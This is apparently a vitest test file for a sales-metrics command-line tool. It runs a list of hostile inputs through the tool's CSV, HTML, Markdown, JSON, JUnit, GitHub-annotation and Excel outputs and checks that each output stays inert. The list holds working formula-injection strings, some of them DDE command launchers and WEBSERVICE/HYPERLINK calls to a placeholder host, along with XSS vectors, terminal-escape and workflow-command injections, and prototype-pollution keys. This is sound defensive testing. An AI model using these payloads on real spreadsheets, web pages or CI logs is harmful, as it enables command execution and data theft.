/** One list of hostile texts as names, headings, sheet and file names, through every format that is written (P5). */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { runSession } from './support/run-session.ts';
import { unpack } from './support/unpack.ts';
import { unbalancedTag } from './support/well-formed.ts';
import { workbookBytes } from './support/zip.ts';

/** In no word of ours. */
const mark = 'Zq7';
const payloads = [
  `=1+1+${mark}`,
  `+1+${mark}`,
  `-1+${mark}`,
  `@SUM(${mark})`,
  `\t=${mark}`,
  `\r=${mark}`,
  `\n=${mark}`,
  ` =${mark}`,
  `＝${mark}`,
  `＋${mark}`,
  `－${mark}`,
  `＠${mark}`,
  `=cmd|' /C calc'!${mark}`,
  `=HYPERLINK("http://x/?"&A1,"${mark}")`,
  `=DDE("cmd";"/C calc";"${mark}")`,
  `=WEBSERVICE("http://x/${mark}")`,
  `"=${mark}"`,
  `'=${mark}`,
  `<script>alert("${mark}")</script>`,
  `"><img src=x onerror=alert("${mark}")>`,
  `</title><svg onload=${mark}>`,
  `javascript:${mark}`,
  `[${mark}](javascript:alert(1))`,
  `![${mark}](http://x/y.png)`,
  `a|b|${mark}\\`,
  `\`\`\`${mark}`,
  `]]>${mark}<!--`,
  `&lt;b&gt;${mark}&#x3c;`,
  `\u001b[31m${mark}\u001b]8;;http://x\u0007`,
  `\u202e${mark}\u2066`,
  `::error file=x::${mark}`,
  `%0A::error::${mark}`,
  '__proto__',
  'constructor',
];
/** Where text begins like a formula, blanks and quotes before it or not. */
const formulaStart = /^[\s"'\uFEFF]*[=+\-@＝＋－＠]/u;

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'salesmetrics-formats-'));
  writeFileSync(join(folder, fileName), csv());
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** As far as a file system takes it. */
const fileName = `=${mark} [x](y) <b> %0A::error:: $(x) .csv`;
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Each text as a rep, a customer, a region, a value of an own column, and in a cell that is wrong; two as headings. */
function csv(): string {
  const head = `Order ID,Order Date,Rep,Customer,Region,Amount,${quoted(payloads[13] ?? '')},${quoted(payloads[18] ?? '')}`;
  const rows = payloads.map((text, at) => {
    const cell = quoted(text);
    const day = `2024-01-${String(1 + (at % 28)).padStart(2, '0')}`;
    return `${at},${day},${cell},${cell},${cell},-78.50,${cell},${cell}\n${at}x,${cell},${cell},,,${cell},,\n`;
  });
  return `${head}\n${rows.join('')}9999,2024-01-31,Wang,Acme,North,100,x,y\n`;
}

async function run(...args: readonly string[]): Promise<string> {
  const [command = '', ...flags] = args;
  const { code, out, err } = await runSession(folder, [command, fileName, ...flags, '--lang', 'en']);
  expect([0, 1], err).toContain(code);
  return out;
}

const read = (name: string) => readFileSync(join(folder, name), 'utf8');
const control = /(?![\n\r])\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u;

test('CSV: no text begins like a formula, and numbers stay numbers', async () => {
  const rows = parse(await run('evaluate', '-f', 'csv', '--by', 'rep', '--by', 'customer'), {
    relax_column_count: true,
  });
  const cells = rows.flat();
  const live = cells.filter((text) => formulaStart.test(text) && !text.startsWith("'") && !/^-?\d[\d.]*$/.test(text));
  expect(live).toEqual([]);
  expect(cells.filter((text) => text.includes(mark)).length).toBeGreaterThan(payloads.length);
  expect(cells.filter((text) => /^-78\.50?$/.test(text)).length).toBeGreaterThan(0);
});

test('a page: no element, attribute or link of an input', async () => {
  await run('evaluate', '--html', 'page.html', '--no-report', '--by', 'rep', '-F');
  const page = read('page.html');
  expect(page).toContain(mark);
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(unbalancedTag(page.replace('<!doctype html>\n', ''))).toBeNull();
  expect(page).not.toMatch(/<(?:script|img|iframe|object)|<[a-z][^>"]*(?:"[^"]*"[^>"]*)*\son\w+=|href="(?!#)/i);
  // A link, a style or an attribute other than a label would be one that a text has made.
  expect(page).not.toMatch(/<[a-z]+ (?!svg)[^>]*(?:style|src|href)="[^"]*Zq7/);
});

test('Markdown: no markup, no link, no cell more than the heading has', async () => {
  const text = await run('evaluate', '-f', 'md', '--by', 'rep');
  expect(text).toContain(mark);
  expect(text).not.toMatch(/(?<!\\)<(?:script|img|svg|b|!--|\/)/i);
  expect(text).not.toMatch(/(?<!\\)\]\((?:javascript|http|y)/);
  expect(text).not.toMatch(control);
  const widths = text
    .split('\n\n')
    .filter((block) => block.startsWith('|'))
    .map(
      (block) =>
        new Set(
          block
            .trimEnd()
            .split('\n')
            .map((line) => line.match(/(?<!\\)(?:\\\\)*\|/g)?.length),
        ).size,
    );
  expect(new Set(widths)).toEqual(new Set([1]));
});

test('SARIF and JSON are JSON, NDJSON line by line, without raw control characters', async () => {
  for (const format of ['sarif', 'json', 'ndjson']) {
    const text = await run('validate', '-f', format);
    expect(text).not.toMatch(/(?!\n)\p{Cc}/u);
    for (const document of format === 'ndjson' ? text.trimEnd().split('\n') : [text]) {
      expect(JSON.parse(document)).toBeTypeOf('object');
    }
    expect(text).toContain(mark);
  }
  expect(Object.keys(Object.prototype)).toEqual([]);
});

test('JUnit is sound XML', async () => {
  const xml = await run('validate', '-f', 'junit');
  expect(unbalancedTag(xml.replace(/^<\?xml[^>]*\?>\n/, ''))).toBeNull();
  expect(xml).not.toMatch(/<(?:script|img|svg)|<!--|(?![\t\n\r])\p{Cc}/iu);
  expect(xml).toContain(mark);
});

test('annotations of GitHub begin with our own commands only', async () => {
  const lines = (await run('validate', '-f', 'github')).trimEnd().split('\n');
  expect(lines.filter((line) => line.startsWith('::') && !/^::(?:error|warning|notice) file=/.test(line))).toEqual([]);
  expect(lines.join('\n')).not.toMatch(control);
});

// What XML itself cannot hold is written as Excel writes it.
const forXml = (text: string): string =>
  text.replaceAll(/[\p{Cc}<>&"]/gu, (sign) => `_x${sign.charCodeAt(0).toString(16).padStart(4, '0')}_`);

test('workbooks, also a copy with our sheets, whatever the sheets are called', async () => {
  const sheetText = (text: string) => `<c t="inlineStr"><is><t xml:space="preserve">${forXml(text)}</t></is></c>`;
  const table = [
    ['Order ID', 'Order Date', 'Rep', 'Amount', ...payloads.slice(0, 3)],
    ...payloads.map((text, at) => [String(at), '2024-01-05', text, '10', text, text, text]),
  ];
  const rows = table.map((cells) => `<row>${cells.map(sheetText).join('')}</row>`).join('');
  const names = [`=${mark}+1`, `'${mark}'!A1`.replaceAll(/[':]/g, ''), `&lt;script&gt;${mark}`];
  const sheets = names.map((name, at) => ({ name, rows: at === 0 ? rows : '' }));
  writeFileSync(join(folder, 'book.xlsx'), workbookBytes({ sheets }));
  for (const args of [
    ['evaluate', '-o', 'out.xlsx', '--by', 'rep'],
    ['evaluate', '--into', 'book.xlsx', '-o', 'into.xlsx'],
    ['validate', '-o', 'problems.xlsx'],
    ['validate', '--annotate', 'marked.xlsx'],
  ]) {
    const [command = '', ...flags] = args;
    const { code, err } = await runSession(folder, [command, 'book.xlsx', ...flags, '-F', '--lang', 'en']);
    expect([0, 1], err).toContain(code);
  }
  for (const name of ['out.xlsx', 'into.xlsx', 'problems.xlsx', 'marked.xlsx']) {
    for (const [part, xml] of unpack(readFileSync(join(folder, name)))) {
      const live = xml.match(/<f[ >][^<]*<\/f>|<hyperlink [^>]*>|Target="[^"]*"|TargetMode="External"/g) ?? [];
      // A sheet may be named in a formula or a link of ours, quoted.
      const beyond = live.map((text) =>
        text.replaceAll(/(?:'|&apos;)(?:(?!'|&apos;).|''|&apos;&apos;)*(?:'|&apos;)!/g, ''),
      );
      expect(
        beyond.filter((text) => text.includes(mark) || text.includes('External')),
        `${name} ${part}`,
      ).toEqual([]);
      expect(xml, `${name} ${part}`).not.toMatch(/<(?:script|img)/);
    }
  }
});

test('keys and titles of a configuration reach the terminal and the page as text', async () => {
  const config = `kpis:\n  own:\n    simple: { sum: amount }\n    title: ${JSON.stringify({ en: payloads[18], 'zh-CN': payloads[19] })}\n`;
  writeFileSync(join(folder, 'own.yaml'), config);
  await run('evaluate', '-c', 'own.yaml', '--kpi', 'own', '--html', 'own.html', '--no-report', '-F');
  const page = read('own.html');
  expect(page).toContain(mark);
  expect(page).not.toMatch(/<script|<img/i);
  writeFileSync(join(folder, 'odd.yaml'), `${JSON.stringify(payloads[28])}: 1\n${JSON.stringify(payloads[18])}: 2\n`);
  const { code, err } = await runSession(folder, ['evaluate', fileName, '-c', 'odd.yaml', '--no-report']);
  expect(code).toBe(2);
  expect(err).not.toMatch(control);
});
